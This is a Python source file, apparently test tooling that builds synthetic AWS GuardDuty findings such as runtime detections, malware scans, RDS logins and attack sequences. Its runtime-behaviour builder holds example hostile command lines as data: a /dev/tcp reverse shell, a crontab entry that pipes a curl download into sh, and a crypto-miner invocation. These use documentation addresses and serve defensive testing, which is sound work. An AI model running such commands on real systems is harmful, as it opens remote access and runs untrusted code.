        name = self.rng.choice(_DB_INSTANCES)
        instance = f"{name}-instance-{int(self.stable('rds', name, 2), 16) % 3 + 1}"
        user = self.attacker_text(self.rng.choice(("postgres", "app_rw", "reporting", "admin")))
        self.words.update(db=instance, db_user=user, target=f"RDS DB instance {instance}")
        return {
            "RdsDbInstanceDetails": {
                "DbInstanceIdentifier": instance,
                "Engine": self.rng.choice(("aurora-postgresql", "aurora-mysql")),
                "EngineVersion": self.rng.choice(("15.4", "16.1", "8.0.mysql_aurora.3.05.2")),
                "DbClusterIdentifier": name,
                "DbInstanceArn": self.arn("rds", f"db:{instance}"),
                "DbiResourceId": "db-" + _stable_upper(self.account, self.region, instance, length=26),
                "Tags": self.tags(instance),
            },
            "RdsDbUserDetails": {
                "User": user,
                "Application": self.attacker_text(self.rng.choice(("psql", "DBeaver 24.0.2", "pgAdmin 4"))),
                "Database": self.rng.choice(("orders", "customers", "postgres")),
                "Ssl": self.rng.choice(("true", "false")),
                "AuthMethod": "PASSWORD",
            },
        }

    def rds_limitless_blocks(self) -> dict:
        name = self.rng.choice(_DB_INSTANCES)
        shard_group = f"{name}-shards"
        user = self.attacker_text(self.rng.choice(("postgres", "app_rw", "reporting", "admin")))
        self.words.update(db=shard_group, db_user=user, target=f"RDS Limitless DB shard group {shard_group}")
        resource_id = "shardgroup-" + self.stable("shard-group", name, 17)
        return {
            "RdsLimitlessDbDetails": {
                "DbShardGroupIdentifier": shard_group,
                "DbShardGroupResourceId": resource_id,
                "DbShardGroupArn": self.arn("rds", f"shard-group:{resource_id}"),
                "Engine": "aurora-postgresql",
                "EngineVersion": "16.6-limitless",
                "DbClusterIdentifier": f"{name}-limitless",
                "Tags": self.tags(shard_group),
            },
            "RdsDbUserDetails": {
                "User": user,
                "Application": self.attacker_text(self.rng.choice(("psql", "DBeaver 24.0.2", "pgAdmin 4"))),
                "Database": self.rng.choice(("orders", "customers", "postgres")),
                "Ssl": self.rng.choice(("true", "false")),
                "AuthMethod": "PASSWORD",
            },
        }

    def backup_blocks(self) -> dict:
        """The scanned backup: an EBS snapshot, an AMI, or an AWS Backup recovery point (EC2 or S3)."""
        kind = self.spec.params["backup"]
        name = self.rng.choice(_INSTANCE_NAMES)
        if kind == "snapshot":
            snapshot = "snap-" + self.stable("snapshot", name)
            self.words.update(snapshot=snapshot, target=f"EBS snapshot {snapshot}")
            return {"EbsSnapshotDetails": {"SnapshotArn": self.arn("ec2", f"snapshot/{snapshot}")}}
        if kind == "image":
            image = "ami-" + self.stable("image", name)
            self.words.update(image=image, target=f"EC2 AMI {image}")
            return {"Ec2ImageDetails": {"ImageArn": self.arn("ec2", f"image/{image}", account=False)}}
        vault = self.attacker_text(self.rng.choice(("prod-vault", "Default", "compliance-vault")))
        point = str(uuid.UUID(int=self.rng.getrandbits(128)))
        self.words.update(recovery_point=point, vault=vault, target=f"recovery point {point}")
        return {"RecoveryPointDetails": {"RecoveryPointArn": self.arn("backup", f"recovery-point:{point}"),
                                         "BackupVaultName": vault}}

    def ai_blocks(self) -> dict:
        """AI Protection's resource blocks next to the access key: the models, or the guardrail."""
        if self.spec.params["ai"] == "models":
            models = self.rng.sample(_AI_MODELS, 2)
            self.words["model"] = models[0]
            return {"ModelDetails": [{"ModelId": model} for model in models]}
        guardrail = self.arn("bedrock", "guardrail/" + self.stable("guardrail", "prompt-filter", 12))
        self.words["guardrail"] = guardrail
        return {"BedrockGuardrailDetails": {
            "Guardrails": [{"Arn": guardrail, "Version": str(self.rng.randint(1, 9))}],
            "GuardrailAction": "GUARDRAIL_INTERVENED",
            "GuardrailSource": "INPUT",
            "ContentPolicyFilters": [{"Type": "PROMPT_ATTACK", "Confidence": "HIGH", "Action": "BLOCKED"}],
        }}

    def lambda_details(self) -> dict:
        name = self.rng.choice(_FUNCTIONS)
        self.words.update(function=name, target=f"Lambda function {name}")
        return {
            "FunctionArn": self.arn("lambda", f"function:{name}"),
            "FunctionName": name,
            "Description": self.attacker_text(f"{name.replace('-', ' ')} handler"),
            "LastModifiedAt": _millis(self.event_time - timedelta(days=self.rng.randint(1, 120))),
            "RevisionId": str(uuid.UUID(int=self.rng.getrandbits(128))),
            "FunctionVersion": "$LATEST",
            "Role": self.arn("iam", f"role/service-role/{name}-role", region=False),
            "VpcConfig": {
                "SubnetIds": ["subnet-" + self.stable("subnet", name)],
                "VpcId": self.vpc_id(),
                "SecurityGroups": [{"GroupId": "sg-" + self.stable("sg", name), "GroupName": f"{name}-sg"}],
            },
            "Tags": self.tags(name),
        }

    def resource(self) -> dict:
        kind = self.spec.resource_type
        resource: dict[str, Any] = {"ResourceType": kind}
        if kind == "Instance":
            resource["InstanceDetails"] = self.instance_details()
        elif kind == "AccessKey":
            resource["AccessKeyDetails"] = self.access_key_details()
            if "ai" in self.spec.params:
                resource.update(self.ai_blocks())
        elif kind == "S3Bucket":
            resource["AccessKeyDetails"] = self.access_key_details()
            resource["S3BucketDetails"] = [
                self.s3_bucket_detail(self.bucket_name(), public=bool(self.spec.params.get("public")))]
        elif kind == "S3Object":
            detail = self.s3_bucket_detail(self.bucket_name())
            key = self.attacker_text(f"uploads/{self.rng.getrandbits(32):08x}/invoice.pdf.exe")
            self.words.update(object_key=key, target=f"S3 object {key} in bucket {detail['Name']}")
            detail["S3ObjectDetails"] = [{
                "ObjectArn": f"{detail['Arn']}/{key}",
                "Key": key,
                "ETag": f"{self.rng.getrandbits(128):032x}",
                "Hash": _EICAR_SHA256,
                "VersionId": _stable_upper(key, length=32),
            }]
            resource["S3BucketDetails"] = [detail]
        elif kind in ("EKSCluster", "KubernetesCluster"):
            resource.update(self.eks_blocks())
        elif kind == "ECSCluster":
            resource.update(self.ecs_blocks())
        elif kind == "Container":
            resource["ContainerDetails"] = self.container(privileged=self.spec.name.endswith("DockerSocketAccessed"))
            resource["InstanceDetails"] = self.instance_details()
            self.words["target"] = f"container {self.words['container']} on EC2 instance {self.words['instance_id']}"
        elif kind == "RDSDBInstance":
            resource.update(self.rds_blocks())
        elif kind == "Lambda":
            resource["LambdaDetails"] = self.lambda_details()
        elif kind == "RDSLimitlessDB":
            resource.update(self.rds_limitless_blocks())
        elif kind in BACKUP_RESOURCE_TYPES:
            resource.update(self.backup_blocks())
        else:  # pragma: no cover - the catalogue only uses the types above
            raise ValueError(f"no resource builder for {kind}")
        return resource

    # --- actions ------------------------------------------------------------------------------------
    def action(self) -> dict | None:
        kind = self.spec.action_type
        if kind == NETWORK_CONNECTION:
            return {"ActionType": kind, "NetworkConnectionAction": self.network_connection()}
        if kind == PORT_PROBE:
            return {"ActionType": kind, "PortProbeAction": self.port_probe()}
        if kind == AWS_API_CALL:
            return {"ActionType": kind, "AwsApiCallAction": self.api_call()}
        if kind == DNS_REQUEST:
            return {"ActionType": kind, "DnsRequestAction": self.dns_request()}
        if kind == KUBERNETES_API_CALL:
            return {"ActionType": kind, "KubernetesApiCallAction": self.kubernetes_call()}
        if kind == RDS_LOGIN_ATTEMPT:
            return {"ActionType": kind, "RdsLoginAttemptAction": self.rds_login()}
        return None

    def network_connection(self) -> dict:
        params = self.spec.params
        port = params["port"]
        ephemeral = self.rng.randint(32768, 60999)
        inbound = params.get("direction") == "INBOUND"
        local_port, remote_port = (port, ephemeral) if inbound else (ephemeral, port)
        remote = self.remote_ip_details()
        self.words["remote_ip"] = remote.get("IpAddressV4") or remote.get("IpAddressV6")
        local_name = self.words.get("instance_name") or self.words.get("function") or self.words.get("cluster", "")
        return {
            "Blocked": False,
            "ConnectionDirection": "INBOUND" if inbound else "OUTBOUND",
            "LocalPortDetails": {"Port": local_port, "PortName": _PORT_NAMES.get(local_port, "Unknown")},
            "Protocol": params.get("protocol", "TCP"),
            "LocalIpDetails": {"IpAddressV4": self.local_ip(local_name)},
            "RemoteIpDetails": remote,
            "RemotePortDetails": {"Port": remote_port, "PortName": _PORT_NAMES.get(remote_port, "Unknown")},
        }

    def port_probe(self) -> dict:
        port = self.spec.params["port"]
        details = []
        for _ in range(self.rng.randint(1, 3)):
            remote = self.remote_ip_details()
            details.append({
                "LocalPortDetails": {"Port": port, "PortName": _PORT_NAMES.get(port, "Unknown")},
                "LocalIpDetails": {"IpAddressV4": self.local_ip(self.words.get("instance_name", ""))},
                "RemoteIpDetails": remote,
            })
        self.words["remote_ip"] = details[0]["RemoteIpDetails"].get("IpAddressV4")
        return {"Blocked": False, "PortProbeDetails": details}

    def user_agent(self) -> str:
        agent = self.spec.params.get("agent")
        normal = {"kali": _KALI_AGENT, "browser": _BROWSER_AGENT}.get(agent) or self.rng.choice(_USER_AGENTS)
        return self.attacker_text(normal)

    def api_call(self) -> dict:
        params = self.spec.params
        api = params["api"]
        remote = self.remote_ip_details()
        self.words.update(api=api, remote_ip=remote.get("IpAddressV4") or remote.get("IpAddressV6"),
                          trail=self.rng.choice(_TRAILS))
        call: dict[str, Any] = {
            "Api": api,
            "CallerType": params.get("caller", "Remote IP"),
            "UserAgent": self.user_agent(),
            "RemoteIpDetails": remote,
            "ServiceName": params["service"],
        }
        if params.get("caller") == "Remote account":
            call["RemoteAccountDetails"] = {"AccountId": "444455556666", "Affiliated": False}
        if "bucket" in self.words:
            call["AffectedResources"] = {"AWS::S3::Bucket": self.words["bucket"]}
        elif api == "StopLogging":
            call["AffectedResources"] = {
                "AWS::CloudTrail::Trail": self.arn("cloudtrail", f"trail/{self.words['trail']}")}
        return call

    def dns_request(self) -> dict:
        domain, suffix = _DOMAINS[self.spec.params["domain"]]
        domain = self.attacker_text(domain)
        self.words["domain"] = domain
        return {"Domain": domain, "Protocol": "UDP", "Blocked": False, "DomainWithSuffix": suffix}

    def kubernetes_call(self) -> dict:
        params = self.spec.params
        remote = self.remote_ip_details()
        ip = remote.get("IpAddressV4") or remote.get("IpAddressV6")
        uri = self.attacker_text(params["uri"].format(pod=self.words.get("pod", "pod")))
        self.words.update(remote_ip=ip, verb=params["verb"], request_uri=uri)
        call: dict[str, Any] = {
            "RequestUri": uri,
            "Verb": params["verb"],
            "Resource": params["k8s_resource"],
            "SourceIps": [ip],
            "UserAgent": self.attacker_text(self.rng.choice(_KUBE_AGENTS)),
            "RemoteIpDetails": remote,
            "StatusCode": 200 if params["verb"] in ("get", "list") else 201,
        }
        if "subresource" in params:
            call["Subresource"] = params["subresource"]
        if "namespace" in params:
            call["Namespace"] = params["namespace"]
        return call

    def rds_login(self) -> dict:
        login = self.spec.params["login"]
        remote = self.remote_ip_details()
        self.words["remote_ip"] = remote.get("IpAddressV4")
        if login == "probe":
            return {"RemoteIpDetails": remote}
        failed = {"failed": self.rng.randint(3, 40), "bruteforce": self.rng.randint(50, 400)}.get(login, 0)
        successful = 0 if login == "failed" else self.rng.randint(1, 3)
        return {
            "RemoteIpDetails": remote,
            "LoginAttributes": [{
                "User": self.words["db_user"],
                "Application": self.attacker_text(self.rng.choice(("psql", "sqlmap/1.8", "python-psycopg"))),
                "FailedLoginAttempts": failed,
                "SuccessfulLoginAttempts": successful,
            }],
        }

    # --- runtime, malware, sequences ----------------------------------------------------------------
    def process(self, name: str, path: str, *, user: str = "root", parent: tuple[str, str] | None = None) -> dict:
        started = _millis(self.event_time - timedelta(seconds=self.rng.randint(1, 900)))
        pid = self.rng.randint(300, 65000)
        own_uuid = str(uuid.UUID(int=self.rng.getrandbits(128)))
        parent_uuid = str(uuid.UUID(int=self.rng.getrandbits(128)))
        parent_name, parent_path = parent or ("bash", "/usr/bin/bash")
        uid = 0 if user == "root" else 1000
        return {
            "Name": self.attacker_text(name),
            "ExecutablePath": path,
            "ExecutableSha256": f"{self.rng.getrandbits(256):064x}",
            "NamespacePid": self.rng.randint(1, 400),
            "Pwd": "/tmp" if user == "root" else f"/home/{user}",
            "Pid": pid,
            "StartTime": started,
            "Uuid": own_uuid,
            "ParentUuid": parent_uuid,
            "User": user,
            "UserId": uid,
            "Euid": uid,
            "Lineage": [{
                "StartTime": started - timedelta(seconds=self.rng.randint(1, 3600)),
                "NamespacePid": self.rng.randint(1, 50),
                "UserId": uid,
                "Name": parent_name,
                "Pid": self.rng.randint(2, pid),
                "Uuid": parent_uuid,
                "ExecutablePath": parent_path,
                "Euid": uid,
                "ParentUuid": str(uuid.UUID(int=self.rng.getrandbits(128))),
            }],
        }

    def runtime_details(self) -> dict:
        behaviour = self.spec.params["behaviour"]
        context: dict[str, Any] = {}
        if behaviour == "miner":
            process = self.process("xmrig", "/tmp/.x/xmrig")
            context["CommandLineExample"] = "/tmp/.x/xmrig -o xmr.pool-mining.example.com:3333 --donate-level 1"
        elif behaviour == "c2":
            process = self.process("kworkerds", "/var/tmp/kworkerds")
        elif behaviour == "reverse_shell":
            process = self.process("bash", "/usr/bin/bash", parent=("nc", "/usr/bin/nc.openbsd"))
            context["CommandLineExample"] = "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
        elif behaviour == "new_binary":
            process = self.process("updater", "/tmp/updater")
            context["ModifyingProcess"] = self.process("curl", "/usr/bin/curl")
            context["ModifiedAt"] = _millis(self.event_time - timedelta(seconds=self.rng.randint(5, 120)))
        elif behaviour == "library":
            process = self.process("python3", "/usr/local/bin/python3")
            context["LibraryPath"] = "/tmp/.cache/libprocesshider.so"
            context["ModifyingProcess"] = self.process("wget", "/usr/bin/wget")
            context["ModifiedAt"] = _millis(self.event_time - timedelta(seconds=self.rng.randint(5, 120)))
        elif behaviour == "suspicious_command":
            process = self.process("sh", "/bin/sh")
            context["CommandLineExample"] = "echo '* * * * * curl -s http://203.0.113.9/s.sh | sh' | crontab -"
        elif behaviour == "tool":
            process = self.process("nmap", "/usr/bin/nmap")
            context.update(ToolName="nmap", ToolCategory="Network scanner")
            context["CommandLineExample"] = "nmap -sS -p- 192.0.2.0/24"
        elif behaviour == "malicious_file":
            process = self.process("payload", "/tmp/payload")
            context["ThreatFilePath"] = "/tmp/payload"
        elif behaviour == "injection":
            process = self.process("injector", "/dev/shm/injector")
            context["TargetProcess"] = self.process("sshd", "/usr/sbin/sshd")
        elif behaviour == "fileless":
            process = self.process("python3", "/usr/bin/python3")
            context["MemoryRegions"] = ["memfd:payload (deleted)"]
        elif behaviour == "docker_socket":
            process = self.process("docker", "/usr/bin/docker")
            context.update(SocketPath="/var/run/docker.sock", AddressFamily="AF_UNIX", IanaProtocolNumber=0)
        elif behaviour == "host_mount":
            process = self.process("mount", "/usr/bin/mount")
            context.update(MountSource="/dev/nvme0n1p1", MountTarget="/mnt/host", FileSystemType="xfs",
                           Flags=["MS_MGC_VAL"])
        elif behaviour == "runc":
            process = self.process("exploit", "/tmp/exploit")
            context["RuncBinaryPath"] = "/usr/bin/runc"
        else:  # pragma: no cover - catalogue behaviours are listed above
            raise ValueError(f"unknown runtime behaviour {behaviour}")
        self.words["process"] = process["Name"]
        if self.hostile:
            context["CommandLineExample"] = self.attacker_text("")
        details: dict[str, Any] = {"Process": process}
        if context:
            details["Context"] = context
        return details

    def ebs_scan(self, finding_id_source: str, created: datetime) -> tuple[dict, dict]:
        """(Resource.EbsVolumeDetails, Service.EbsVolumeScanDetails) of a GuardDuty-initiated scan.

        EbsVolumeScanDetails "Contains details from the malware scan that created a finding"
        (https://docs.aws.amazon.com/guardduty/latest/APIReference/API_EbsVolumeScanDetails.html):
        the scan has completed by the time the finding is created, so it ends no later than `created`.
        """
        volume_id = "vol-" + _stable_hex(finding_id_source, "volume", length=17)
        volume_arn = self.arn("ec2", f"volume/{volume_id}")
        suspicious = bool(self.spec.params.get("suspicious"))
        threat = "Hacktool.Linux.Nmap" if suspicious else _EICAR_NAME
        path = self.attacker_text("/home/ec2-user/downloads/eicar.com")
        volumes = {
            "ScannedVolumeDetails": [{
                "VolumeArn": volume_arn,
                "VolumeType": "GP3",
                "DeviceName": "/dev/xvda",
                "VolumeSizeInGB": 8,
                "EncryptionType": "UNENCRYPTED",
                "SnapshotArn": self.arn("ec2", f"snapshot/snap-{_stable_hex(volume_id, length=17)}"),
            }],
            "SkippedVolumeDetails": [],
        }
        scan_id = f"{self.rng.getrandbits(128):032x}"
        duration = timedelta(minutes=self.rng.randint(3, 20))
        completed = min(_millis(self.event_time + timedelta(minutes=2)) + duration, created)
        scan = {
            "ScanId": scan_id,
            "ScanStartedAt": completed - duration,
            "ScanCompletedAt": completed,
            "TriggerFindingId": f"{self.rng.getrandbits(128):032x}",
            "Sources": ["Bitdefender", "Amazon"],
            "ScanDetections": {
                "ScannedItemCount": {"TotalGb": 8, "Files": self.rng.randint(40000, 90000), "Volumes": 1},
                "ThreatsDetectedItemCount": {"Files": 1},
                "HighestSeverityThreatDetails": {"Severity": "MEDIUM" if suspicious else "HIGH",
                                                 "ThreatName": threat, "Count": 1},
                "ThreatDetectedByName": {
                    "ItemCount": 1,
                    "UniqueThreatNameCount": 1,
                    "Shortened": False,
                    "ThreatNames": [{
                        "Name": threat,
                        "Severity": "MEDIUM" if suspicious else "HIGH",
                        "ItemCount": 1,
                        "FilePaths": [{"FilePath": path, "VolumeArn": volume_arn, "Hash": _EICAR_SHA256,
                                       "FileName": path.rsplit("/", 1)[-1]}],
                    }],
                },
            },
            "ScanType": "GUARDDUTY_INITIATED",
        }
        return volumes, scan

    def s3_scan(self) -> dict:
        return {
            "Threats": [{
                "Name": _EICAR_NAME,
                "Source": "Bitdefender",
                "ItemPaths": [{"NestedItemPath": self.words["object_key"], "Hash": _EICAR_SHA256}],
            }],
            "ScanId": f"{self.rng.getrandbits(128):032x}",
            "ScanType": "GUARDDUTY_INITIATED",
            "UniqueThreatCount": 1,
        }

    def backup_scan(self) -> dict:
        """Service.MalwareScanDetails of a Backup scan: AWS Backup starts it (ScanType BACKUP_INITIATED, botocore
        enum ScanType), full or incremental (ScanCategory)."""
        path = self.attacker_text("/var/www/html/uploads/shell.php")
        details: dict[str, Any] = {
            "Threats": [{"Name": _EICAR_NAME, "Source": "Bitdefender", "Count": 1, "Hash": _EICAR_SHA256,
                         "ItemPaths": [{"NestedItemPath": path, "Hash": _EICAR_SHA256}]}],
            "ScanId": f"{self.rng.getrandbits(128):032x}",
            "ScanType": "BACKUP_INITIATED",
            "ScanCategory": "FULL_SCAN",
            "UniqueThreatCount": 1,
        }
        # MalwareProtectionFindingsScanConfiguration.TriggerType: BACKUP | GUARDDUTY (botocore enum TriggerType).
        details["ScanConfiguration"] = {"TriggerType": "BACKUP"}
        return details

    def sequence(self, resource: dict, now: datetime) -> dict:
        """Service.Detection.Sequence: the signals, actors, resources and endpoints of an attack."""
        family = self.spec.params["sequence"]
        remote = remote_ip_details(self.rng)
        ip = remote["IpAddressV4"]
        if "AccessKeyDetails" in resource:
            key = resource["AccessKeyDetails"]
        else:
            # The credentials the attacker used; they are not the finding's resource, so the
            # resource's words (its target label) must survive.
            words = dict(self.words)
            key = self.access_key_details()
            self.words = words
        user = key["UserName"]
        self.words.setdefault("user", user)
        signal_names = _SEQUENCE_SIGNAL_TYPES[family]
        resource_v2 = self.sequence_resource(family, resource)
        actor_id = f"actor-{_stable_hex(user, length=8)}"
        start = self.event_time - timedelta(hours=self.rng.randint(2, 20))
        signals = []
        for index, name in enumerate(signal_names):
            first = _millis(start + timedelta(minutes=37 * index))
            last = _millis(min(now, first + timedelta(minutes=self.rng.randint(1, 30))))
            signal: dict[str, Any] = {
                "Uid": self.arn("guardduty", f"detector/{self.stable('detector', 'x', 32)}/finding/"
                                f"{self.rng.getrandbits(128):032x}"),
                "Type": "FINDING",
                "Description": FINDING_TYPES[name].title.format_map(_Blank(self.words)),
                "Name": name,
                "CreatedAt": first,
                "UpdatedAt": last,
                "FirstSeenAt": first,
                "LastSeenAt": last,
                "Severity": FINDING_TYPES[name].severity,
                "Count": self.rng.randint(1, 12),
                "ResourceUids": [resource_v2["Uid"]],
                "ActorIds": [actor_id],
                "EndpointIds": [ip],
                "SignalIndicators": [self.indicator("MALICIOUS_IP", [ip])],
            }
            signals.append(signal)
        signals.append({
            "Uid": f"cloudtrail-{self.rng.getrandbits(64):016x}",
            "Type": "CLOUD_TRAIL",
            "Name": "DeleteTrail",
            "CreatedAt": signals[-1]["UpdatedAt"],
            "UpdatedAt": signals[-1]["UpdatedAt"],
            "FirstSeenAt": signals[-1]["UpdatedAt"],
            "LastSeenAt": signals[-1]["UpdatedAt"],
            "Count": 1,
            "ActorIds": [actor_id],
            "EndpointIds": [ip],
            "Activities": [{"Type": "API_CALL", "Api": {"Operation": "DeleteTrail", "Service": "cloudtrail",
                                                        "UserAgent": self.user_agent()}}],
        })
        self.words["signals"] = len(signals)
        country = remote["Country"]["CountryName"]
        return {
            "Uid": f"{self.rng.getrandbits(128):032x}",
            "Description": self.spec.description.format_map(_Blank(self.words)),
            "Actors": [{
                "Id": actor_id,
                "User": {"Name": user, "Uid": key["PrincipalId"], "Type": key["UserType"],
                         "CredentialUid": key["AccessKeyId"], "Account": {"Uid": self.account}},
                "Session": {"MfaStatus": "DISABLED"},
            }],
            "Resources": [resource_v2],
            "Endpoints": [{
                "Id": ip,
                "Ip": ip,
                "Location": {"City": remote["City"]["CityName"], "Country": country,
                             "Latitude": remote["GeoLocation"]["Lat"], "Longitude": remote["GeoLocation"]["Lon"]},
                "AutonomousSystem": {"Name": remote["Organization"]["AsnOrg"],
                                     "Number": int(remote["Organization"]["Asn"])},
                "Connection": {"Direction": "INBOUND"},
            }],
            "Signals": signals,
            # Indicator.Values: "if the indicator key is ATTACK_TACTIC, then the value will be one of the MITRE
            # tactics" (Security Hub API reference, Indicator); GuardDuty's enum IndicatorType also has
            # ATTACK_TECHNIQUE and HIGH_RISK_API (botocore guardduty model). The signal indicators are a
            # subset of these ("The values for SignalIndicators are a subset of the values for
            # SequenceIndicators", Security Hub API reference, Sequence).
            "SequenceIndicators": [
                self.indicator("ATTACK_TACTIC", list(_SEQUENCE_TACTICS[family])),
                self.indicator("ATTACK_TECHNIQUE", list(_SEQUENCE_TECHNIQUES[family])),
                self.indicator("HIGH_RISK_API", ["DeleteTrail"]),
                self.indicator("MALICIOUS_IP", [ip]),
            ],
        }

    def sequence_resource(self, family: str, resource: dict) -> dict:
        common = {"AccountId": self.account, "Region": self.region, "CloudPartition": self.partition}
        if family == "s3":
            bucket = resource["S3BucketDetails"][0]
            return {"Uid": bucket["Arn"], "Name": bucket["Name"], "ResourceType": "S3_BUCKET", "Service": "s3",
                    **common, "Tags": bucket["Tags"]}
        if family == "eks":
            cluster = resource["EksClusterDetails"]
            return {"Uid": cluster["Arn"], "Name": cluster["Name"], "ResourceType": "EKS_CLUSTER",
                    "Service": "eks", **common, "Data": {"EksCluster": {"Arn": cluster["Arn"], "Status": "ACTIVE",
                                                                        "VpcId": cluster["VpcId"]}}}
        if family == "ecs":
            cluster = resource["EcsClusterDetails"]
            return {"Uid": cluster["Arn"], "Name": cluster["Name"], "ResourceType": "ECS_CLUSTER",
                    "Service": "ecs", **common, "Data": {"EcsCluster": {"Status": "ACTIVE"}}}
        if family == "ec2":
            instance = resource["InstanceDetails"]
            return {"Uid": instance["InstanceId"], "Name": instance["InstanceId"], "ResourceType": "EC2_INSTANCE",
                    "Service": "ec2", **common, "Tags": instance["Tags"]}
        key = resource["AccessKeyDetails"]
        return {"Uid": key["AccessKeyId"], "Name": key["UserName"], "ResourceType": "ACCESS_KEY",
                "Service": "iam", **common,
                "Data": {"AccessKey": {"PrincipalId": key["PrincipalId"], "UserName": key["UserName"],
                                       "UserType": key["UserType"]}}}

    def indicator(self, key: str, values: list[str]) -> dict:
        return {"Key": key, "Values": [value[:256] for value in values], "Title": _INDICATOR_TITLES[key]}


class _Blank(dict):
    """Template words with a visible placeholder for any word the builder did not produce."""

    def __missing__(self, key: str) -> str:
        return "(unknown)"


def remote_ip_details(rng: random.Random, *, tor: bool = False, ipv6: bool = False) -> dict:
    """A remote actor's `RemoteIpDetails` from documentation address and ASN space."""
    country, code, city, lat, lon = rng.choice(_LOCATIONS)
    asn, asn_org, isp = _TOR_ORG if tor else rng.choice(_HOSTING_ORGS)
    details: dict[str, Any] = {
        "City": {"CityName": city},
        "Country": {"CountryCode": code, "CountryName": country},
        "GeoLocation": {"Lat": lat, "Lon": lon},
        "Organization": {"Asn": asn, "AsnOrg": asn_org, "Isp": isp, "Org": isp},
    }
    if ipv6:
        details["IpAddressV6"] = f"2001:db8:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}"
    else:
        details["IpAddressV4"] = f"{rng.choice(('198.51.100', '203.0.113'))}.{rng.randint(1, 254)}"
    return details


def build_finding(
    rng: random.Random,
    *,
    finding_type: str,
    account_id: str,
    region: str,
    detector_id: str,
    now: datetime,
    sample: bool = False,
    partition: str = "aws",
    created_at: datetime | None = None,
    hostile: bool = False,
) -> dict:
    """A finding of `finding_type` as boto3's `GetFindings` returns it (PascalCase, model-valid).

    `created_at` back-dates the finding (it must not be after `now`); a back-dated finding has been
    seen more than once, so its `Service.Count` is above one. `sample` marks it the way
    `CreateSampleFindings` does (`"sample": true` in `Service.AdditionalInfo.Value`). `hostile` puts
    `HOSTILE_STRINGS` in every attacker-controlled string.
    """
    try:
        spec = FINDING_TYPES[finding_type]
    except KeyError:
        raise ValueError(f"unknown finding type {finding_type!r}") from None
    now = _millis(now)
    created = _millis(created_at) if created_at is not None else now
    if created > now:
        raise ValueError("created_at is after now")
    # GuardDuty creates a finding a few minutes after the activity it saw.
    first_seen = created - timedelta(seconds=rng.randint(60, 600))
    builder = _FindingBuilder(rng, spec, account_id=account_id, region=region, partition=partition,
                              hostile=hostile, event_time=first_seen)
    resource = builder.resource()
    finding_id = f"{rng.getrandbits(128):032x}"

    service: dict[str, Any] = {}
    action = builder.action()
    if action is not None:
        service["Action"] = action
    threat_list = spec.params.get("threat_list")
    if threat_list:
        threat_names = {"TorEntryNodes": ["TorEntryNode"], "TorExitNodes": ["TorExitNode"]}.get(threat_list, [])
        detail: dict[str, Any] = {"ThreatListName": threat_list}
        if threat_names:
            detail["ThreatNames"] = threat_names
        service["Evidence"] = {"ThreatIntelligenceDetails": [detail]}
    if spec.runtime or spec.action_type == RUNTIME:
        service["RuntimeDetails"] = builder.runtime_details()
    if spec.action_type == MALWARE_SCAN:
        if spec.params["scan"] == "s3":
            service["MalwareScanDetails"] = builder.s3_scan()
        elif spec.params["scan"] == "backup":
            service["MalwareScanDetails"] = builder.backup_scan()
        else:
            resource["EbsVolumeDetails"], service["EbsVolumeScanDetails"] = builder.ebs_scan(finding_id, created)
    if spec.action_type == ATTACK_SEQUENCE:
        service["Detection"] = {"Sequence": builder.sequence(resource, now)}

    count = 1 if created == now else rng.randint(2, 40)
    last_seen = first_seen if count == 1 else max(first_seen, now - timedelta(seconds=rng.randint(60, 600)))
    info: dict[str, Any] = {}
    if threat_list:
        info["threatListName"] = threat_list
    if spec.action_type == AWS_API_CALL:
        info["userAgent"] = {"fullUserAgent": action["AwsApiCallAction"]["UserAgent"], "userAgentCategory": "CLI"}
    if sample:
        info["sample"] = True
    service.update({
        "Archived": False,
        "Count": count,
        "DetectorId": detector_id,
        "EventFirstSeen": _iso(first_seen),
        "EventLastSeen": _iso(last_seen),
        "ResourceRole": spec.params.get("role", "TARGET"),
        "ServiceName": "guardduty",
        "AdditionalInfo": {"Value": json.dumps(info, separators=(",", ":")), "Type": "default"},
        "FeatureName": spec.feature,
    })
    if "rule" in spec.params:
        builder.words["rule"] = spec.params["rule"]
    words = _Blank(builder.words)
    finding: dict[str, Any] = {
        "AccountId": account_id,
        "Arn": f"arn:{partition}:guardduty:{region}:{account_id}:detector/{detector_id}/finding/{finding_id}",
        "CreatedAt": _iso(created),
        "Description": spec.description.format_map(words),
        "Id": finding_id,
        "Partition": partition,
        "Region": _reported_region(service, region),
        "Resource": resource,
        "SchemaVersion": "2.0",
        "Service": service,
        "Severity": spec.severity,
        "Title": spec.title.format_map(words),
        "Type": spec.name,
        "UpdatedAt": _iso(now),
    }
    if "rule" in spec.params:
        finding["CustomDetectionRuleName"] = spec.params["rule"]
    return finding


def build_attack_sequence(
    rng: random.Random,
    *,
    finding_type: str,
    account_id: str,
    region: str,
    detector_id: str,
    now: datetime,
    partition: str = "aws",
    hostile: bool = False,
) -> tuple[dict, list[dict]]:
    """An attack-sequence finding and the findings it correlated (its signals of type FINDING), all as boto3's
    `GetFindings` returns them.

    GuardDuty Extended Threat Detection correlates "signals", which "can be GuardDuty findings or activities
    observed in data sources that GuardDuty monitors" (API reference, Signal.type: FINDING is an "Individually
    generated GuardDuty finding"), within one account into one Critical attack-sequence finding (User Guide,
    "GuardDuty Extended Threat Detection"; "Attack sequence finding types"). So each FINDING signal here is a
    finding of its own, in the same account and region, about the same actor (access key, remote address) and,
    where its resource block is the sequence's kind, the same resource:
    - the signal's `Name` is the finding's type ("when signal type is FINDING, the signal name is the name of
      the finding", API reference, Signal.name), its `Uid` the finding's ARN (AWS documents only "The unique
      identifier of the signal"; the ARN is the finding's unique key), its times, count and severity the
      finding's (Signal.firstSeenAt: "The timestamp when the first finding or activity related to this signal
      was observed");
    - each such finding names the sequence in `AssociatedAttackSequenceArn` ("Amazon Resource Name (ARN)
      associated with the attack sequence finding", botocore guardduty model, Finding).
    The sequence is created at `now`, after the last of its findings was seen: GuardDuty correlates within a
    rolling 24-hour window (User Guide, "GuardDuty Extended Threat Detection"), so the signals span hours.
    Signals of other types (a CLOUD_TRAIL API call) stay activities, not findings.
    """
    spec = FINDING_TYPES.get(finding_type)
    if spec is None or spec.action_type != ATTACK_SEQUENCE:
        raise ValueError(f"{finding_type!r} is not an attack-sequence finding type")
    now = _millis(now)
    sequence_finding = build_finding(rng, finding_type=finding_type, account_id=account_id, region=region,
                                     detector_id=detector_id, now=now, partition=partition, hostile=hostile)
    sequence = sequence_finding["Service"]["Detection"]["Sequence"]
    actor_key = sequence_finding["Resource"].get("AccessKeyDetails")
